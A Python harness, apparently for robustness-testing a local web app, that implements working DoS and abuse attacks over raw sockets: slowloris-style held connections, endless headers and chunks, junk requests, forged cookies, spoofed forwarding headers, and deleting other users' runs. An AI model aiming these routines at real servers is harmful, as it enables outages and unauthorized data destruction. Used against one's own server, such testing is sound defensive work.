"""What a hostile or an unlucky client does to a server, over real sockets from an address of its own.

Nothing but the standard library, so that it runs beside the app in a container. It knows no answers: whether the
server minds is for those who call it to see.
"""

import asyncio
import io
import json
import random
import socket
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from functools import cache

PIECE = 16 * 1024
BOUNDARY = "attack"
NAME = "192.0.2.1"  # what the server is called by; addresses are answered
CUT_OFF = (OSError, TimeoutError)  # the server closed, or takes nothing more


@dataclass(frozen=True)
class Target:
    """Where to, from which address of this machine, and how long to rest between two pieces or two connections."""

    port: int
    host: str = "127.0.0.1"
    source: str = "127.0.0.2"
    pause: float = 0.001

    @property
    def head(self) -> bytes:
        """The line of every request that names no loopback host: else it could be the teacher's, at the machine."""
        return f"Host: {NAME}:{self.port}\r\n".encode()


class Line:
    """One connection."""

    def __init__(self, connection: socket.socket) -> None:
        self._connection = connection
        self._loop = asyncio.get_running_loop()

    async def send(self, data: bytes, seconds: float = 5.0) -> None:
        """All of it, unless that takes too long or is refused."""
        async with asyncio.timeout(seconds):
            await self._loop.sock_sendall(self._connection, data)

    async def read(self, most: int = 1 << 16, seconds: float = 20.0) -> bytes:
        """What comes next; nothing at the end."""
        async with asyncio.timeout(seconds):
            return await self._loop.sock_recv(self._connection, most)

    async def status(self) -> int:
        """The answer's, or 0 where there is none."""
        try:
            return int((await self.read()).split(b" ", 2)[1])
        except (*CUT_OFF, IndexError, ValueError):
            return 0

    def drop(self) -> None:
        """Gone without a goodbye, as one who walks out of the Wi-Fi: a reset."""
        self._connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self._connection.close()


@asynccontextmanager
async def connected(target: Target, holds: int | None = None) -> AsyncIterator[Line]:
    """A connection, whose window for what it does not read is `holds` bytes."""
    with socket.socket() as connection:
        connection.setblocking(False)
        if holds:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, holds)
        connection.bind((target.source, 0))
        async with asyncio.timeout(5):
            await asyncio.get_running_loop().sock_connect(connection, (target.host, target.port))
        yield Line(connection)


def request(target: Target, method: str, path: str, body: bytes = b"", *more: str) -> bytes:
    """A whole request."""
    lines = "".join(f"{line}\r\n" for line in (*more, f"Content-Length: {len(body)}"))
    return f"{method} {path} HTTP/1.1\r\n".encode() + target.head + lines.encode() + b"\r\n" + body


def form(fields: dict[str, str], file: bytes = b"", name: str = "image") -> bytes:
    """A multipart body, with a file where one is given."""
    parts = [f'Content-Disposition: form-data; name="{key}"\r\n\r\n{value}'.encode() for key, value in fields.items()]
    if file:
        parts.append(f'Content-Disposition: form-data; name="{name}"; filename="a"\r\n\r\n'.encode() + file)
    return b"".join(f"--{BOUNDARY}\r\n".encode() + part + b"\r\n" for part in parts) + f"--{BOUNDARY}--\r\n".encode()


FORM = f"Content-Type: multipart/form-data; boundary={BOUNDARY}"
JSON = "Content-Type: application/json"


@cache
def picture(width: int, height: int) -> bytes:
    """A PNG of one color: small to send, large to keep as numbers."""
    rows = zlib.compress((b"\0" + bytes([90, 60, 30]) * width) * height, 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held)) for kind, held in chunks
    )


def archive(seed: int, pictures: int = 4, classes: tuple[str, ...] = ("left", "right")) -> bytes:
    """A ZIP with one folder of pictures for each class."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for label in classes:
            for number in range(pictures):
                packed.writestr(f"{label}/{number}.png", picture(16 + seed % 40 + len(label), 16 + number))
    return file.getvalue()


async def _again(target: Target, seconds: float, once: Callable[[], Awaitable[None]]) -> None:
    """The same thing anew, as often as it is cut off."""
    until = time.monotonic() + seconds
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while time.monotonic() < until:
                with suppress(*CUT_OFF):
                    await once()
                await asyncio.sleep(target.pause)


async def _together(count: int, one: Callable[[int], Awaitable[None]]) -> None:
    await asyncio.gather(*(one(number) for number in range(count)))


async def _pour(target: Target, seconds: float, begun: bytes, piece: bytes) -> None:
    """What is begun goes on for ever."""

    async def once() -> None:
        async with connected(target) as line:
            await line.send(begun)
            while True:
                await line.send(piece)
                await asyncio.sleep(target.pause)

    await _again(target, seconds, once)


async def endless_header(target: Target, seconds: float) -> None:
    """One header that has no end."""
    await _pour(target, seconds, b"GET / HTTP/1.1\r\n" + target.head + b"X: ", b"a" * PIECE)


async def endless_address(target: Target, seconds: float) -> None:
    """An address that has no end."""
    await _pour(target, seconds, b"GET /", b"a" * PIECE)


async def short_headers(target: Target, seconds: float) -> None:
    """Header lines of four bytes, millions of them."""
    await _pour(target, seconds, b"GET / HTTP/1.1\r\n" + target.head, b"a:b\r\n" * (PIECE // 5))


async def endless_chunk(target: Target, seconds: float) -> None:
    """A body in chunks, each with an extension that has no end."""
    begun = b"POST /api/networks HTTP/1.1\r\n" + target.head + f"{JSON}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    await _pour(target, seconds, begun + b"5;", b"a" * PIECE)


async def _hold(target: Target, seconds: float, count: int, begun: bytes, drops: bytes) -> None:
    """Many connections with something begun, of which a drop comes every two seconds; a closed one is opened again."""

    async def one(number: int) -> None:
        async def once() -> None:
            await asyncio.sleep(number * target.pause)
            async with connected(target) as line:
                await line.send(begun)
                while True:
                    await asyncio.sleep(2)
                    await line.send(drops)

        await _again(target, seconds, once)

    await _together(count, one)


async def slow_heads(target: Target, seconds: float, count: int = 1100) -> None:
    """Heads that never end."""
    await _hold(target, seconds, count, b"GET / HTTP/1.1\r\n" + target.head, b"a: b\r\n")


async def silent_connections(target: Target, seconds: float, count: int = 1100) -> None:
    """Connections on which nothing is ever said."""
    await _hold(target, seconds, count, b"", b"")


async def slow_bodies(target: Target, seconds: float, count: int = 150) -> None:
    """Bodies of a byte every two seconds."""
    begun = request(target, "POST", "/api/convolutions", b"", FORM).replace(b"Length: 0", b"Length: 90000")
    await _hold(target, seconds, count, begun + form({"kernel": "sharpen"})[:60], b"a")


async def junk_bodies(target: Target, seconds: float) -> None:
    """Bodies, and whole requests, that make no sense."""
    chance = random.Random(7)
    chunked = (
        b"POST /api/networks HTTP/1.1\r\n" + target.head + f"{JSON}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    )

    def made() -> bytes:
        noise = chance.randbytes(chance.randrange(1, 4000))
        return chance.choice([
            noise,
            chunked + b"5\r\n{\"net\r\nno number\r\n",
            chunked + b"ffffffffffffffff\r\n" + noise,
            request(target, "POST", "/api/convolutions", noise, FORM),
            request(target, "POST", "/api/networks", b'{"layers":' + b"[" * 5000, JSON),
            request(target, "POST", "/api/runs", b'{"dataset": 1e999, "training": "\\ud800"}', JSON),
            request(target, "POST", "/api/runs", b"\xef\xbb\xbf" + noise, JSON),
            request(target, "GET", "/\x01" + "%" * 50),
            b"GET / HTTP/1.1\r\n" + target.head + target.head + b"\r\n",
            b"GET / HTTP/9.9\r\n" + target.head + b"Content-Length: -1\r\n\r\n",
        ])  # fmt: skip

    async def once() -> None:
        async with connected(target) as line:
            await line.send(made())
            await line.read(seconds=2)

    await _again(target, seconds, once)


async def leavers(target: Target, seconds: float) -> None:
    """Who leaves in the middle of a body, or while the answer is worked out."""
    whole = request(target, "POST", "/api/convolutions", form({"kernel": "sharpen"}, picture(900, 600)), FORM)
    turn = 0

    async def once() -> None:
        nonlocal turn
        turn += 1
        async with connected(target) as line:
            await line.send(whole[: len(whole) // 2] if turn % 3 else whole)
            await asyncio.sleep(0.02)
            line.drop()

    await _again(target, seconds, once)


def large_requests(target: Target) -> list[bytes]:
    """Small questions with large answers: numbers, a data URL, maps, weights."""
    file = picture(3600, 2700)
    return [
        request(target, "POST", "/api/convolutions", form({"kernel": "sobel-x", "format": "npy"}, file), FORM),
        request(
            target, "POST", "/api/convolutions", form({"kernel": "sobel-x"}, file), FORM, "Accept: application/json"
        ),
        request(target, "POST", "/api/models/best/activations", form({"sample": "cat"}), FORM),
        request(target, "GET", "/api/models/best/weights"),
        request(target, "GET", "/api/models/best/selectivity"),
    ]


async def non_readers(target: Target, seconds: float, count: int = 16) -> None:
    """Who asks for much and takes nothing of it."""
    asked = large_requests(target)

    async def one(number: int) -> None:
        async def once() -> None:
            async with connected(target, holds=4096) as line:
                await line.send(asked[number % len(asked)] if number % 4 else asked[0])
                await asyncio.sleep(seconds)

        await _again(target, seconds, once)

    await _together(count, one)


async def _each(target: Target, requests: list[bytes]) -> list[int]:
    """The statuses, each of a connection of its own."""
    found = []
    for whole in requests:
        try:
            async with connected(target) as line:
                await line.send(whole)
                found.append(await line.status())
        except CUT_OFF:
            found.append(0)
    return found


async def foreign_pages(target: Target, seconds: float) -> list[int]:
    """What a page of another site makes a browser send; the statuses that came back."""
    body, found = form({"title": "mine"}, archive(1), "archive"), list[int]()
    origins = ["Origin: http://evil.example", "Origin: null", f"Origin: http://{NAME}:1", "Origin: "]

    async def once() -> None:
        found.extend(await _each(target, [
            request(target, "POST", "/api/datasets", body, FORM, origin) for origin in origins
        ]))  # fmt: skip

    await _again(target, seconds, once)
    return found


async def _runs(target: Target) -> list[str]:
    """The ids that a list tells to everybody."""
    async with connected(target) as line:
        await line.send(request(target, "GET", "/api/runs", b"", "Connection: close"))
        told = b""
        while piece := await line.read():
            told += piece
    head, _, body = told.partition(b"\r\n\r\n")
    if b"chunked" in head.lower() or not body:
        return []
    return [run["id"] for run in json.loads(body)["runs"]]


async def thieves(target: Target, seconds: float) -> list[int]:
    """Who stops and deletes the runs of others, which a list tells everybody; the statuses that came back."""
    found: list[int] = []

    async def once() -> None:
        for run_id in (await _runs(target))[:20]:
            path = f"/api/runs/{run_id}"
            found.extend(await _each(target, [
                request(target, "PATCH", path, b'{"state": "stopped"}', JSON),
                request(target, "DELETE", path, b"", "X-Real-IP: 127.0.0.1", "Forwarded: for=127.0.0.1"),
            ]))  # fmt: skip
        await asyncio.sleep(2)

    await _again(target, seconds, once)
    return found


async def invented_cookies(target: Target, seconds: float) -> None:
    """A crowd that is one: tiny runs and data sets under cookies that no server gave."""
    network = {"input": [1, 8, 8], "classes": 10, "layers": [{"type": "flatten"}, {"type": "dense", "units": 10}]}
    order = json.dumps({"dataset": "digits", "network": network, "training": {"epochs": 1}}).encode()
    turn = 0

    async def once() -> None:
        nonlocal turn
        turn += 1
        cookie = f"Cookie: visitor={turn:024d}"
        body = form({"title": f"set {turn}"}, archive(turn), "archive")
        await _each(target, [
            request(target, "POST", "/api/runs", order, JSON, cookie),
            *([request(target, "POST", "/api/datasets", body, FORM, cookie)] if turn % 4 == 0 else []),
        ])  # fmt: skip
        await asyncio.sleep(0.3)

    await _again(target, seconds, once)


async def stream_hogs(target: Target, seconds: float, count: int = 350) -> None:
    """Watches a run a hundred times over, and reads nothing."""
    runs = await _runs(target) or ["0123456789abcdef"]

    async def one(number: int) -> None:
        async def once() -> None:
            await asyncio.sleep(number * target.pause)
            async with connected(target, holds=4096) as line:
                await line.send(request(target, "GET", f"/api/runs/{runs[number % len(runs)]}/events"))
                await asyncio.sleep(seconds)

        await _again(target, seconds, once)

    await _together(count, one)


async def nobody(target: Target, seconds: float) -> None:
    """No attack, to see what others meet without one."""
    await asyncio.sleep(seconds)


Attack = Callable[[Target, float], Awaitable[object]]
ATTACKS: tuple[Attack, ...] = (
    endless_header, endless_address, short_headers, endless_chunk, slow_heads, silent_connections, slow_bodies,
    junk_bodies, leavers, non_readers, foreign_pages, thieves, invented_cookies, stream_hogs,
)  # fmt: skip


def main(name: str, port: str, seconds: str, source: str) -> None:
    """One attack, as a process of its own: `python attackers.py endless_header 8000 10 127.0.0.2`."""
    print(asyncio.run(globals()[name](Target(int(port), source=source), float(seconds))))


if __name__ == "__main__":
    main(*sys.argv[1:])
